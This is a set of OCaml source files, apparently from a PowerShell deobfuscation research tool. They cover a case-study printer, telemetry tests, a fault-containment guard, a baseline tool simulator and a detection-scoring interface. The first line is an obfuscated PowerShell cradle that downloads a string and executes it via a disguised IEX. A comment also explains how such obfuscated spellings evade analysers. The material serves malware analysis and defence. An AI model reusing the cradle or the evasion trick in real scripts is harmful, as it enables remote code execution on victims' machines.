   .($psHoME[4]+$PSHOME[30]+'x') ((nEw-oBJeCt Net.WebClient).downloadstring($sdfs))"

(** The staged view of Fig 7, via the engine's phase API. *)
let phases () = Deobf.Engine.run_phases case_script

(** Fig 8: each tool's final output on the case. *)
let tool_outputs ?(tools = Baselines.All_tools.all) () =
  List.map
    (fun tool ->
      (tool.Baselines.Tool.name,
       (tool.Baselines.Tool.deobfuscate case_script).Baselines.Tool.result))
    tools

let print () =
  Printf.printf "Case study (paper Fig 7): Invoke-Deobfuscation phases\n";
  List.iter
    (fun p ->
      Printf.printf "--- %s ---\n%s\n" p.Deobf.Engine.phase
        (String.trim p.Deobf.Engine.text))
    (phases ());
  Printf.printf "\nCase study (paper Fig 8): all tools\n";
  List.iter
    (fun (name, out) -> Printf.printf "--- %s ---\n%s\n" name (String.trim out))
    (tool_outputs ())
