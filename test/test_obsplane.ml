(* Tests for the live telemetry plane: rolling-window aggregates, the
   Prometheus scrape endpoint (exercised concurrently under a chaos
   request flood), structured JSON logging, the flight recorder's fault
   dumps, and trace-id propagation — all observation-only, so outputs
   stay byte-identical whatever is switched on. *)

module T = Pscommon.Telemetry
module Pool = Pscommon.Pool
module Chaos = Pscommon.Chaos
module Serve = Deobf.Serve
module Jsonl = Deobf.Jsonl

let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)
let check_s = Alcotest.(check string)
let check_f = Alcotest.(check (float 1e-9))
let contains = Pscommon.Strcase.contains

let with_temp_dir name f =
  let dir =
    Filename.concat (Filename.get_temp_dir_name ())
      (Printf.sprintf "obs-%s-%d" name (Unix.getpid ()))
  in
  let rec rm path =
    if Sys.is_directory path then begin
      Array.iter (fun n -> rm (Filename.concat path n)) (Sys.readdir path);
      Sys.rmdir path
    end
    else Sys.remove path
  in
  if Sys.file_exists dir then rm dir;
  Sys.mkdir dir 0o755;
  Fun.protect
    ~finally:(fun () -> if Sys.file_exists dir then rm dir)
    (fun () -> f dir)

let write_file path text =
  Out_channel.with_open_bin path (fun oc -> Out_channel.output_string oc text)

(* ---------- rolling windows ---------- *)

let test_window_quantiles () =
  let w = T.Window.window ~capacity:32 ~horizon_s:10.0 "obs.test.window" in
  T.Window.reset w;
  check_b "empty quantile is nan" true (Float.is_nan (T.Window.quantile w 0.5));
  (* a pinned synthetic stream: values 1..10 at one-second spacing *)
  let t0 = 1000.0 in
  for i = 1 to 10 do
    T.Window.observe ~at:(t0 +. float_of_int i) w (float_of_int i)
  done;
  let now = t0 +. 10.0 in
  check_i "all in horizon" 10 (T.Window.count ~now w);
  (* nearest-rank: exact for the window's contents *)
  check_f "p0 is the min" 1.0 (T.Window.quantile ~now w 0.0);
  check_f "p50" 6.0 (T.Window.quantile ~now w 0.5);
  check_f "p90" 10.0 (T.Window.quantile ~now w 0.9);
  check_f "p100 is the max" 10.0 (T.Window.quantile ~now w 1.0);
  check_f "mean" 5.5 (T.Window.mean ~now w);
  check_f "rate = count / horizon" 1.0 (T.Window.rate ~now w);
  (* ageing: advance the clock so only the newest four samples remain *)
  let later = t0 +. 17.0 in
  check_i "old samples aged out" 4 (T.Window.count ~now:later w);
  check_f "quantiles follow the horizon" 7.0
    (T.Window.quantile ~now:later w 0.0);
  (* past the horizon entirely: empty again *)
  check_i "fully aged" 0 (T.Window.count ~now:(t0 +. 100.0) w);
  T.Window.reset w;
  check_i "reset empties" 0 (T.Window.count ~now w)

let test_window_capacity_ring () =
  let w = T.Window.window ~capacity:16 ~horizon_s:1000.0 "obs.test.ring" in
  T.Window.reset w;
  let t0 = 2000.0 in
  for i = 1 to 100 do
    T.Window.observe ~at:(t0 +. float_of_int i) w (float_of_int i)
  done;
  let now = t0 +. 100.0 in
  (* only the newest [capacity] observations are retained: 85..100 *)
  check_i "count capped at capacity" 16 (T.Window.count ~now w);
  check_f "oldest retained" 85.0 (T.Window.quantile ~now w 0.0);
  check_f "newest retained" 100.0 (T.Window.quantile ~now w 1.0)

(* ---------- Prometheus exposition ---------- *)

(* minimal well-formedness check for the text format: every non-comment,
   non-blank line is "name[{labels}] value" with a parseable value *)
let exposition_well_formed body =
  List.for_all
    (fun line ->
      line = ""
      || String.length line > 0 && line.[0] = '#'
      ||
      match String.rindex_opt line ' ' with
      | None -> false
      | Some i ->
          let name = String.sub line 0 i in
          let value = String.sub line (i + 1) (String.length line - i - 1) in
          name <> ""
          && (match name.[0] with
             | 'a' .. 'z' | 'A' .. 'Z' | '_' -> true
             | _ -> false)
          && float_of_string_opt value <> None)
    (String.split_on_char '\n' body)

let test_prometheus_exposition () =
  let c = T.Metrics.counter "obs.prom.hits" in
  T.Metrics.incr ~by:3 c;
  T.Metrics.set (T.Metrics.gauge "obs.prom.depth") 7;
  let h = T.Metrics.histogram "obs.prom.lat_ms" in
  List.iter (T.Metrics.observe h) [ 0.5; 2.0; 2.0; 700.0 ];
  let w = T.Window.window "obs.prom.win" in
  T.Window.observe w 12.5;
  let body = T.render_prometheus () in
  check_b "well-formed exposition" true (exposition_well_formed body);
  check_b "counter typed and _total-suffixed" true
    (contains ~needle:"# TYPE invoke_deobf_obs_prom_hits_total counter" body
    && contains ~needle:"invoke_deobf_obs_prom_hits_total 3" body);
  check_b "gauge rendered" true
    (contains ~needle:"invoke_deobf_obs_prom_depth 7" body);
  check_b "histogram count and sum" true
    (contains ~needle:"invoke_deobf_obs_prom_lat_ms_count 4" body
    && contains ~needle:"invoke_deobf_obs_prom_lat_ms_sum 704.5" body);
  check_b "+Inf bucket closes the series" true
    (contains
       ~needle:"invoke_deobf_obs_prom_lat_ms_bucket{le=\"+Inf\"} 4" body);
  (* cumulative buckets: the le="2" bucket holds the 0.5 and both 2.0s *)
  check_b "buckets are cumulative" true
    (contains ~needle:"invoke_deobf_obs_prom_lat_ms_bucket{le=\"2\"} 3" body);
  check_b "window aggregates rendered as labelled gauges" true
    (contains
       ~needle:"invoke_deobf_window_p50_ms{window=\"obs.prom.win\"} 12.5"
       body)

let test_histogram_json_quantiles () =
  let h = T.Metrics.histogram "obs.json.lat_ms" in
  for _ = 1 to 9 do
    T.Metrics.observe h 1.0
  done;
  T.Metrics.observe h 900.0;
  let json = T.Metrics.snapshot_to_json (T.Metrics.snapshot ()) in
  (* p50/p90/p99 ride along in metrics.json (upper log2-bucket bounds) *)
  check_b "snapshot carries quantiles" true
    (contains ~needle:"\"p50_ms\":" json
    && contains ~needle:"\"p90_ms\":" json
    && contains ~needle:"\"p99_ms\":" json)

(* ---------- structured log format ---------- *)

let test_log_format_switch () =
  check_b "parse text" true (T.Log.format_of_string "text" = Some T.Log.Text);
  check_b "parse json" true (T.Log.format_of_string "json" = Some T.Log.Json);
  check_b "parse jsonl alias" true
    (T.Log.format_of_string "JSONL" = Some T.Log.Json);
  check_b "reject junk" true (T.Log.format_of_string "yaml" = None);
  check_b "text is the default" true (T.Log.format () = T.Log.Text);
  T.Log.set_format T.Log.Json;
  Fun.protect ~finally:(fun () -> T.Log.set_format T.Log.Text) @@ fun () ->
  check_b "switch visible" true (T.Log.format () = T.Log.Json)

(* ---------- trace ids ---------- *)

let test_trace_id_scoping () =
  check_b "no ambient id by default" true (T.current_request_id () = None);
  let a = T.new_trace_id () and b = T.new_trace_id () in
  check_b "ids are unique" true (a <> b);
  T.with_request_id a (fun () ->
      check_b "ambient id in scope" true (T.current_request_id () = Some a);
      (* a trace created in scope adopts the request's id *)
      let tr = T.create () in
      check_s "trace adopts the ambient id" a (T.trace_id tr);
      T.with_request_id b (fun () ->
          check_b "nested scope shadows" true
            (T.current_request_id () = Some b));
      check_b "inner scope restored" true (T.current_request_id () = Some a));
  check_b "scope exits clean" true (T.current_request_id () = None);
  let tr = T.create () in
  check_b "out of scope: fresh id" true (T.trace_id tr <> a && T.trace_id tr <> b)

(* ---------- flight recorder ---------- *)

let test_flight_dump_on_worker_failure () =
  with_temp_dir "flight" @@ fun dir ->
  T.Flight.set_sink (Some dir);
  Fun.protect ~finally:(fun () -> T.Flight.set_sink None) @@ fun () ->
  check_b "recorder enabled" true (T.Flight.enabled ());
  let rid = T.new_trace_id () in
  (* a service worker whose handler records (as an instrumented request
     would) and then dies: the recycle path must dump the black box *)
  let before = T.Flight.dumps_total () in
  let svc =
    Pool.Service.create ~jobs:1 ~queue_cap:4 (fun () ->
        T.with_request_id rid (fun () ->
            T.event "obs.request" ~attrs:[ ("step", T.S "handling") ];
            failwith "injected worker failure"))
  in
  check_b "submitted" true (Pool.Service.submit svc ());
  Pool.Service.shutdown svc;
  check_b "a dump was attempted" true (T.Flight.dumps_total () > before);
  let dumps =
    Sys.readdir dir |> Array.to_list
    |> List.filter (fun f -> Filename.check_suffix f ".jsonl")
  in
  check_b "dump file written" true (dumps <> []);
  let body =
    In_channel.with_open_bin
      (Filename.concat dir (List.hd dumps))
      In_channel.input_all
  in
  check_b "dump names the recycle" true (contains ~needle:"worker-recycled" body);
  check_b "dump carries the failing request's trace id" true
    (contains ~needle:rid body);
  check_b "dump holds the request's events" true
    (contains ~needle:"obs.request" body)

let test_flight_dump_on_pool_task_fault () =
  with_temp_dir "flightbatch" @@ fun dir ->
  let sink = Filename.concat dir "flight" in
  let sample = Filename.concat dir "s.ps1" in
  write_file sample "$x = 'pay' + 'load'; Write-Output $x";
  T.Flight.set_sink (Some sink);
  Chaos.set
    (Some { Chaos.seed = 5; rate = 0.0; site_rates = [ ("pool.task", 1.0) ] });
  Fun.protect
    ~finally:(fun () ->
      Chaos.set None;
      T.Flight.set_sink None)
  @@ fun () ->
  let outcome = Deobf.Batch.process_file ~timeout_s:30.0 sample in
  (* the injected fault is contained as a structured task failure... *)
  check_b "task failure recorded" true
    (List.exists
       (fun (s : Deobf.Engine.failure_site) -> s.Deobf.Engine.phase = "task")
       outcome.Deobf.Batch.failures);
  (* ...and forensics landed in the sink *)
  let dumps =
    Sys.readdir sink |> Array.to_list
    |> List.filter (fun f -> Filename.check_suffix f ".jsonl")
  in
  check_b "flight dump written for the fault" true (dumps <> []);
  let body =
    In_channel.with_open_bin
      (Filename.concat sink (List.hd dumps))
      In_channel.input_all
  in
  check_b "dump names the pool fault" true (contains ~needle:"pool.task/" body);
  check_b "dump header carries a trace id" true
    (contains ~needle:"\"trace_id\": \"" body)

let test_flight_disabled_is_silent () =
  T.Flight.set_sink None;
  check_b "disabled" true (not (T.Flight.enabled ()));
  let before = T.Flight.dumps_total () in
  check_b "dump without sink is None" true (T.Flight.dump ~reason:"noop" () = None);
  check_i "no dump counted" before (T.Flight.dumps_total ())

(* ---------- byte identity across jobs with everything switched on ---------- *)

let test_jobs_identity_with_observability_on () =
  with_temp_dir "identity" @@ fun dir ->
  let rng = Pscommon.Rng.of_int 11 in
  let files =
    List.init 6 (fun i ->
        let path = Filename.concat dir (Printf.sprintf "s%d.ps1" i) in
        write_file path
          (Obfuscator.Obfuscate.multilayer rng 2
             (Printf.sprintf
                "$a%d = 'he';$b = 'llo';Write-Host ($a%d + $b)" i i));
        path)
  in
  let run jobs sub =
    let out_dir = Filename.concat dir ("out-" ^ sub) in
    let trace_dir = Filename.concat dir ("traces-" ^ sub) in
    let flight = Filename.concat dir ("flight-" ^ sub) in
    T.Flight.set_sink (Some flight);
    Fun.protect ~finally:(fun () -> T.Flight.set_sink None) @@ fun () ->
    ignore
      (Deobf.Batch.run_files ~timeout_s:30.0 ~out_dir ~trace_dir ~jobs files);
    out_dir
  in
  let out1 = run 1 "j1" and out4 = run 4 "j4" in
  List.iter
    (fun file ->
      let base = Filename.basename file in
      let read d =
        In_channel.with_open_bin (Filename.concat d base) In_channel.input_all
      in
      check_s ("output byte-identical across jobs: " ^ base) (read out1)
        (read out4))
    files;
  (* per-file traces carry correlation ids *)
  List.iter
    (fun file ->
      let base = Filename.basename file in
      let trace =
        In_channel.with_open_bin
          (Filename.concat
             (Filename.concat dir "traces-j4")
             (base ^ ".trace.jsonl"))
          In_channel.input_all
      in
      check_b ("trace carries a trace id: " ^ base) true
        (contains ~needle:"\"trace_id\": \"" trace))
    files

(* ---------- the scrape endpoint ---------- *)

(* tiny HTTP/1.0-style client: one GET, read to EOF (the endpoint closes) *)
let http_get sock_path path =
  let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
  Fun.protect ~finally:(fun () -> try Unix.close fd with _ -> ()) @@ fun () ->
  Unix.connect fd (Unix.ADDR_UNIX sock_path);
  let req = Printf.sprintf "GET %s HTTP/1.1\r\nHost: t\r\n\r\n" path in
  let n = String.length req in
  let rec send off =
    if off < n then send (off + Unix.write_substring fd req off (n - off))
  in
  send 0;
  let buf = Buffer.create 4096 in
  let bytes = Bytes.create 65536 in
  let deadline = Unix.gettimeofday () +. 30.0 in
  let rec recv () =
    if Unix.gettimeofday () < deadline then
      match Unix.select [ fd ] [] [] 0.5 with
      | [], _, _ -> recv ()
      | _ -> (
          match Unix.read fd bytes 0 (Bytes.length bytes) with
          | 0 -> ()
          | r ->
              Buffer.add_subbytes buf bytes 0 r;
              recv ()
          | exception Unix.Unix_error _ -> ())
  in
  recv ();
  Buffer.contents buf

let body_of_http response =
  match Pscommon.Strcase.index_opt ~needle:"\r\n\r\n" response with
  | Some i -> String.sub response (i + 4) (String.length response - i - 4)
  | None -> ""

let request_line ?(trace = false) ?(timeout_s = 0.0) id script =
  Printf.sprintf "{\"id\": %s, \"script\": %s%s%s}\n"
    (Deobf.Report.json_string id)
    (Deobf.Report.json_string script)
    (if trace then ", \"trace\": true" else "")
    (if timeout_s > 0.0 then Printf.sprintf ", \"timeout_s\": %g" timeout_s
     else "")

let send_all fd s =
  let n = String.length s in
  let rec go off =
    if off < n then go (off + Unix.write_substring fd s off (n - off))
  in
  go 0

let read_lines ?(deadline_s = 60.0) fd n =
  let deadline = Unix.gettimeofday () +. deadline_s in
  let buf = Buffer.create 4096 in
  let bytes = Bytes.create 65536 in
  let lines () =
    List.filter
      (fun l -> l <> "")
      (String.split_on_char '\n' (Buffer.contents buf))
  in
  (try
     while List.length (lines ()) < n && Unix.gettimeofday () < deadline do
       match Unix.select [ fd ] [] [] 0.2 with
       | [], _, _ -> ()
       | _ -> (
           match Unix.read fd bytes 0 (Bytes.length bytes) with
           | 0 -> raise Exit
           | r -> Buffer.add_subbytes buf bytes 0 r
           | exception Unix.Unix_error _ -> raise Exit)
     done
   with Exit -> ());
  lines ()

let piece_script = "$x = 'he' + 'llo'; Invoke-Expression ('Write-Output ' + $x)"

let test_scrape_during_chaos_flood () =
  (* the acceptance drill: serve.* chaos at 10%, load at 2x the queue cap,
     and a scraper hammering /metrics the whole time — every request
     answered, every scrape a valid exposition *)
  with_temp_dir "scrape" @@ fun dir ->
  let sock = Filename.concat dir "d.sock" in
  let msock = Filename.concat dir "m.sock" in
  let cfg =
    { (Serve.default_config (Serve.Unix_sock sock)) with
      Serve.jobs = 2;
      queue_cap = 4;
      metrics_addr = Some (Serve.Unix_sock msock) }
  in
  Chaos.set
    (Some
       { Chaos.seed = 7; rate = 0.0;
         site_rates =
           [ ("serve.accept", 0.1); ("serve.read", 0.1); ("serve.write", 0.1);
             ("serve.queue", 0.1) ] });
  Fun.protect ~finally:(fun () -> Chaos.set None) @@ fun () ->
  match Serve.start cfg with
  | Error e -> Alcotest.failf "start: %s" e
  | Ok server ->
      let code =
        Fun.protect ~finally:(fun () -> Serve.stop server) (fun () ->
            (* give the metrics listener a moment to bind *)
            let rec await n =
              if not (Sys.file_exists msock) && n > 0 then begin
                Unix.sleepf 0.05;
                await (n - 1)
              end
            in
            await 100;
            (* scraper domain: poll /metrics concurrently with the flood *)
            let stop_scraping = Atomic.make false in
            let scraper =
              Domain.spawn (fun () ->
                  let acc = ref [] in
                  while not (Atomic.get stop_scraping) do
                    acc := http_get msock "/metrics" :: !acc;
                    Unix.sleepf 0.02
                  done;
                  !acc)
            in
            let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
            Fun.protect ~finally:(fun () -> Unix.close fd) @@ fun () ->
            Unix.connect fd (Unix.ADDR_UNIX sock);
            let n = 8 (* 2x queue_cap *) in
            let payload = Buffer.create 1024 in
            for i = 1 to n do
              Buffer.add_string payload
                (request_line (Printf.sprintf "c%d" i) piece_script)
            done;
            send_all fd (Buffer.contents payload);
            let lines = read_lines fd n in
            Atomic.set stop_scraping true;
            let scrapes = Domain.join scraper in
            check_i "every request answered under injection" n
              (List.length lines);
            List.iter
              (fun l ->
                let s =
                  Option.value ~default:"?" (Jsonl.string_field l "status")
                in
                check_b ("status classified: " ^ s) true
                  (List.mem s [ "ok"; "degraded"; "overloaded"; "error" ]))
              lines;
            check_b "scrapes happened during the flood" true
              (List.length scrapes >= 1);
            List.iter
              (fun response ->
                check_b "scrape is HTTP 200" true
                  (contains ~needle:"HTTP/1.1 200 OK" response);
                check_b "scrape declares the exposition version" true
                  (contains ~needle:"version=0.0.4" response);
                let body = body_of_http response in
                check_b "scrape body well-formed" true
                  (exposition_well_formed body);
                check_b "scrape body has serve counters" true
                  (contains ~needle:"invoke_deobf_serve_requests_total" body))
              scrapes;
            (* an unknown path is a 404, not a hang or a crash *)
            check_b "unknown path 404s" true
              (contains ~needle:"404" (http_get msock "/other"));
            (* start the drain with slow work still in flight: the
               scrape endpoint has its own stop flag and must keep
               answering until the drain completes *)
            send_all fd
              (request_line ~timeout_s:0.8 "drain-probe"
                 "$x = $(while (1 -lt 2) { 1 }; 'ok')");
            Unix.sleepf 0.2;
            Serve.stop server;
            check_b "scrape answers during drain" true
              (contains ~needle:"HTTP/1.1 200 OK"
                 (http_get msock "/metrics"));
            check_i "drain answers the in-flight request" 1
              (List.length (read_lines fd 1)))
        |> fun () -> Serve.wait server
      in
      check_i "graceful drain exits 0" 0 code

let test_serve_inline_trace_and_trace_id () =
  with_temp_dir "inline" @@ fun dir ->
  let sock = Filename.concat dir "d.sock" in
  let cfg =
    { (Serve.default_config (Serve.Unix_sock sock)) with Serve.jobs = 1 }
  in
  match Serve.start cfg with
  | Error e -> Alcotest.failf "start: %s" e
  | Ok server ->
      let code =
        Fun.protect ~finally:(fun () -> Serve.stop server) (fun () ->
            let rec await n =
              if not (Sys.file_exists sock) && n > 0 then begin
                Unix.sleepf 0.05;
                await (n - 1)
              end
            in
            await 100;
            let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
            Fun.protect ~finally:(fun () -> Unix.close fd) @@ fun () ->
            Unix.connect fd (Unix.ADDR_UNIX sock);
            send_all fd (request_line ~trace:true "t1" piece_script);
            send_all fd (request_line "t2" piece_script);
            let lines = read_lines fd 2 in
            let find id =
              match
                List.find_opt
                  (fun l -> Jsonl.string_field l "id" = Some id)
                  lines
              with
              | Some l -> l
              | None -> Alcotest.failf "no response for %s" id
            in
            let traced = find "t1" and plain = find "t2" in
            (* every response names its request's correlation id *)
            let tid l =
              match Jsonl.string_field l "trace_id" with
              | Some t when t <> "" -> t
              | _ -> Alcotest.failf "missing trace_id"
            in
            check_b "distinct requests, distinct ids" true
              (tid traced <> tid plain);
            (* only the opted-in request pays for inline trace events *)
            check_b "traced response carries events" true
              (contains ~needle:"\"trace\": [" traced
              && contains ~needle:"serve.request" traced);
            check_b "untraced response has no trace field" true
              (not (contains ~needle:"\"trace\": [" plain));
            (* tracing is observation-only: same output either way *)
            check_b "outputs identical" true
              (Jsonl.string_field traced "output"
              = Jsonl.string_field plain "output"))
        |> fun () -> Serve.wait server
      in
      check_i "graceful drain exits 0" 0 code

let suite =
  [
    Alcotest.test_case "window quantiles on a synthetic stream" `Quick
      test_window_quantiles;
    Alcotest.test_case "window ring caps retention" `Quick
      test_window_capacity_ring;
    Alcotest.test_case "prometheus exposition well-formed" `Quick
      test_prometheus_exposition;
    Alcotest.test_case "histogram json carries quantiles" `Quick
      test_histogram_json_quantiles;
    Alcotest.test_case "log format switch" `Quick test_log_format_switch;
    Alcotest.test_case "trace-id scoping" `Quick test_trace_id_scoping;
    Alcotest.test_case "flight dump on worker failure" `Quick
      test_flight_dump_on_worker_failure;
    Alcotest.test_case "flight dump on injected pool.task fault" `Quick
      test_flight_dump_on_pool_task_fault;
    Alcotest.test_case "flight disabled is silent" `Quick
      test_flight_disabled_is_silent;
    Alcotest.test_case "byte identity across jobs, observability on" `Quick
      test_jobs_identity_with_observability_on;
    Alcotest.test_case "scrape endpoint during chaos flood" `Quick
      test_scrape_during_chaos_flood;
    Alcotest.test_case "inline trace and response trace ids" `Quick
      test_serve_inline_trace_and_trace_id;
  ]
