lib/obfuscator/l3.ml: Char Encoding L2 List Printf Pscommon Rng String Technique
