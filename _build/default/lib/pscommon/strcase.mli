(** ASCII case-insensitive string utilities.

    PowerShell is case-insensitive almost everywhere (keywords, command
    names, parameters, member names, operators), so caseless comparison is
    pervasive in both the lexer and the deobfuscator. *)

val lower : string -> string
(** ASCII lowercase. *)

val upper : string -> string

val equal : string -> string -> bool
(** Caseless equality. *)

val compare : string -> string -> int

val starts_with : prefix:string -> string -> bool
(** Caseless prefix test. *)

val ends_with : suffix:string -> string -> bool

val contains : needle:string -> string -> bool
(** Caseless substring search; the empty needle is contained everywhere. *)

val index_opt : ?from:int -> needle:string -> string -> int option
(** Offset of the first caseless occurrence of [needle] at or after [from]. *)

val replace_all : needle:string -> replacement:string -> string -> string
(** Replace every caseless, non-overlapping occurrence, scanning left to
    right.  The empty needle returns the input unchanged. *)

val replace_word :
  needle:string ->
  replacement:string ->
  is_word_char:(char -> bool) ->
  string ->
  string
(** Like {!replace_all}, but an occurrence immediately followed by a
    word character is skipped — whole-identifier replacement, used when
    renaming [$variables] inside interpolated strings. *)

module Map : Map.S with type key = string
(** Maps keyed by caseless strings. *)

module Set : Set.S with type elt = string
(** Sets of caseless strings. *)
