(** Fault containment: guarded execution under resource deadlines. *)

type failure =
  | Parse_failure
  | Stack_exhausted
  | Timeout
  | Oom
  | Output_too_large
  | Interpreter_limit of string
  | Wedged
  | Unexpected of string

let failure_label = function
  | Parse_failure -> "parse-failure"
  | Stack_exhausted -> "stack-exhausted"
  | Timeout -> "timeout"
  | Oom -> "out-of-memory"
  | Output_too_large -> "output-too-large"
  | Interpreter_limit _ -> "interpreter-limit"
  | Wedged -> "wedged"
  | Unexpected _ -> "unexpected"

let failure_to_string = function
  | Parse_failure -> "parse failure"
  | Stack_exhausted -> "stack exhausted"
  | Timeout -> "wall-clock deadline exceeded"
  | Oom -> "out of memory"
  | Output_too_large -> "output too large"
  | Interpreter_limit m -> "interpreter limit: " ^ m
  | Wedged ->
      "worker wedged: no cooperative checkpoint past deadline plus grace"
  | Unexpected m -> "unexpected exception: " ^ m

exception Deadline_exceeded

exception Injected_oom
(* the chaos memory fault: classified exactly like [Out_of_memory] but never
   confusable with the runtime's preallocated exception *)

exception Allocation_budget_exceeded
(* the cooperative per-request major-allocation budget fired; classified as
   [Oom] — the request exhausted the memory it was admitted with *)

(* let Chaos inject the real taxonomy exceptions without a module cycle *)
let () = Chaos.set_deadline_exn Deadline_exceeded
let () = Chaos.set_oom_exn Injected_oom

type deadline = float

let no_deadline = infinity
let now () = Unix.gettimeofday ()
let deadline_after s = if s = infinity then infinity else now () +. s

(* Innermost first; guards nest (batch file -> engine phase -> piece).  The
   stack is domain-local state: parallel batch workers each guard their own
   file, and a deadline installed in one domain must never be observed as
   ambient by another.  Each domain's stack starts empty. *)
let ambient : deadline list Domain.DLS.key = Domain.DLS.new_key (fun () -> [])

let ambient_deadline () =
  match Domain.DLS.get ambient with [] -> no_deadline | d :: _ -> d

let expired d = d < infinity && now () >= d
let remaining_s d = if d = infinity then infinity else d -. now ()
let ambient_remaining_s () = remaining_s (ambient_deadline ())

(* ---------- heartbeats ---------- *)

(* The watchdog contract: a supervised worker registers an [Atomic] cell
   for its domain, and every cooperative checkpoint ({!check} — i.e. the
   interpreter's step accounting and every {!protect} entry) bumps it.  The
   supervisor reads the cell from its own domain; a worker whose cell stops
   moving past its deadline is not polling checkpoints and is declared
   wedged.  The cell is per-domain (DLS) so parallel workers never share
   one, and publication is a single [Atomic.incr] — cheap enough for the
   every-2048-steps tick path. *)
let progress_cell : int Atomic.t option ref Domain.DLS.key =
  Domain.DLS.new_key (fun () -> ref None)

let set_progress_cell c = Domain.DLS.get progress_cell := c

let beat () =
  match !(Domain.DLS.get progress_cell) with
  | Some cell -> Atomic.incr cell
  | None -> ()

(* ---------- allocation budgets ---------- *)

(* Per-request major-allocation budget, the memory analogue of the
   wall-clock deadline: {!protect} records the major-heap allocation
   baseline at entry, and {!check} compares the delta against the budget.
   [Gc.quick_stat] reports promoted plus directly-major words for the whole
   runtime, so concurrent workers bleed into each other's accounting — the
   budget is a governor against runaway decode bombs, not a precise
   per-request meter, and it is sized accordingly (hundreds of MB).  The
   slot is domain-local and innermost-wins, like the deadline stack. *)
type alloc_budget = { base_words : float; budget_words : float }

let alloc_ambient : alloc_budget option Domain.DLS.key =
  Domain.DLS.new_key (fun () -> None)

let major_words () =
  let s = Gc.quick_stat () in
  s.Gc.major_words +. s.Gc.minor_words

let check_alloc () =
  match Domain.DLS.get alloc_ambient with
  | None -> ()
  | Some b ->
      if major_words () -. b.base_words > b.budget_words then
        raise Allocation_budget_exceeded

let check d =
  beat ();
  check_alloc ();
  if expired d then raise Deadline_exceeded

(* Registration happens in module initialisers (single-domain, before any
   worker spawns), but an atomic keeps late registration from racing a
   concurrent classify in some future use. *)
let classifiers : (exn -> failure option) list Atomic.t = Atomic.make []

let rec register_classifier f =
  let cur = Atomic.get classifiers in
  if not (Atomic.compare_and_set classifiers cur (f :: cur)) then
    register_classifier f

let classify_exn e =
  match e with
  | Deadline_exceeded -> Timeout
  | Stack_overflow -> Stack_exhausted
  | Out_of_memory -> Oom
  | Injected_oom -> Oom
  | Allocation_budget_exceeded -> Oom
  | Chaos.Injected site -> Unexpected ("chaos injection at " ^ site)
  | e -> (
      match List.find_map (fun f -> f e) (Atomic.get classifiers) with
      | Some failure -> failure
      | None -> Unexpected (Printexc.to_string e))

let protect ?(deadline = no_deadline) ?max_output_bytes ?measure
    ?max_major_bytes f =
  let effective = Float.min deadline (ambient_deadline ()) in
  if expired effective then Error Timeout
  else begin
    beat ();
    Domain.DLS.set ambient (effective :: Domain.DLS.get ambient);
    let saved_alloc = Domain.DLS.get alloc_ambient in
    (match max_major_bytes with
    | None -> ()
    | Some bytes ->
        Domain.DLS.set alloc_ambient
          (Some
             { base_words = major_words ();
               budget_words = float_of_int bytes /. float_of_int (Sys.word_size / 8)
             }));
    let result =
      (* the chaos probe fires inside the guarded extent, so an injected
         fault is classified exactly like a real one *)
      match
        Chaos.probe "guard";
        f ()
      with
      | v -> Ok v
      | exception e -> Error (classify_exn e)
    in
    Domain.DLS.set alloc_ambient saved_alloc;
    Domain.DLS.set ambient
      (match Domain.DLS.get ambient with _ :: rest -> rest | [] -> []);
    match (result, max_output_bytes, measure) with
    | Ok v, Some cap, Some size when size v > cap -> Error Output_too_large
    | r, _, _ -> r
  end
