(** Overriding-function simulation shared by the regex-based baselines.

    PSDecode / PowerDrive / PowerDecode replace the {e literal} spellings of
    [Invoke-Expression] / [IEX] with a function that prints its argument
    instead of executing it, then run the script.  An obfuscated spelling
    ([&('ie'+'x')], [.($pshome\[4\]+...)]) never matches the replacement, so
    the real cmdlet runs and the layer is lost — the mechanism behind the
    baselines' low multi-layer numbers (paper Table III). *)

module Value = Psvalue.Value

type run_outcome = {
  captured : string list;  (** payloads the override saw, in order *)
  events : Pseval.Env.event list;  (** side effects of full execution *)
  failed : bool;  (** script crashed before finishing *)
}

(** Execute [script]; literal IEX payloads are captured and not executed.
    Execution happens with full (sandboxed) side effects — these tools run
    the sample for real. *)
let run_with_override ?(max_steps = 400_000) script =
  let limits = { Pseval.Env.default_limits with Pseval.Env.max_steps } in
  let env = Pseval.Env.create ~mode:Pseval.Env.Sandbox ~limits () in
  (* the samples' C2 infrastructure is long dead when an analyst runs
     these tools; executing a fetch fails after its timeout *)
  env.Pseval.Env.downloads_fail <- true;
  let captured = ref [] in
  env.Pseval.Env.iex_hook <-
    Some
      (fun ~literal payload ->
        if literal then begin
          captured := payload :: !captured;
          true
        end
        else false);
  let failed =
    match Pseval.Interp.run_script env script with
    | Ok _ -> false
    | Error _ -> true
  in
  { captured = List.rev !captured; events = Pseval.Env.events env; failed }

(** Iterate override capture until no further layer appears.
    Returns the final layer and how many layers were peeled. *)
let peel_layers ?(max_layers = 10) script =
  let rec go depth current acc_events =
    if depth >= max_layers then (current, depth, acc_events)
    else
      let outcome = run_with_override current in
      match outcome.captured with
      | [] -> (current, depth, acc_events @ outcome.events)
      | payloads ->
          let next = String.concat "\n" payloads in
          go (depth + 1) next (acc_events @ outcome.events)
  in
  go 0 script []
