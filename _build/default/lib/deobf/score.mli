(** Obfuscation identification and quantification (paper §IV-B2).

    Each known technique is detected from token- and AST-level features; a
    script's score sums the level of each detected technique (L1 = 1,
    L2 = 2, L3 = 3), counting each technique once.  Backs Table I (wild
    proportions), Table V (mitigation) and hard-sample selection. *)

type detection = {
  ticking : bool;
  whitespacing : bool;
  random_case : bool;
  random_name : bool;
  alias : bool;
  concat : bool;
  reorder : bool;
  replace : bool;
  reverse : bool;
  enc_radix : bool;  (** binary / octal / ascii / hex char-code decoding *)
  enc_base64 : bool;
  enc_whitespace : bool;
  enc_specialchar : bool;
  enc_bxor : bool;
  secure_string : bool;
  compress : bool;
}

val none : detection

val detect : string -> detection
(** Detect every technique present in a script.  Scripts that fail to lex
    or parse yield token-level detections only. *)

val levels : detection -> bool * bool * bool
(** (L1 present, L2 present, L3 present). *)

val score_of_detection : detection -> int
val score : string -> int

val technique_names : detection -> string list
(** Names of the detected techniques, for reports. *)
