(** §IV-B1 — the data-collection funnel.

    The paper starts from 2,025,175 raw feed entries, filters to 1,127,349
    syntactically valid PowerShell scripts, and structural dedup collapses
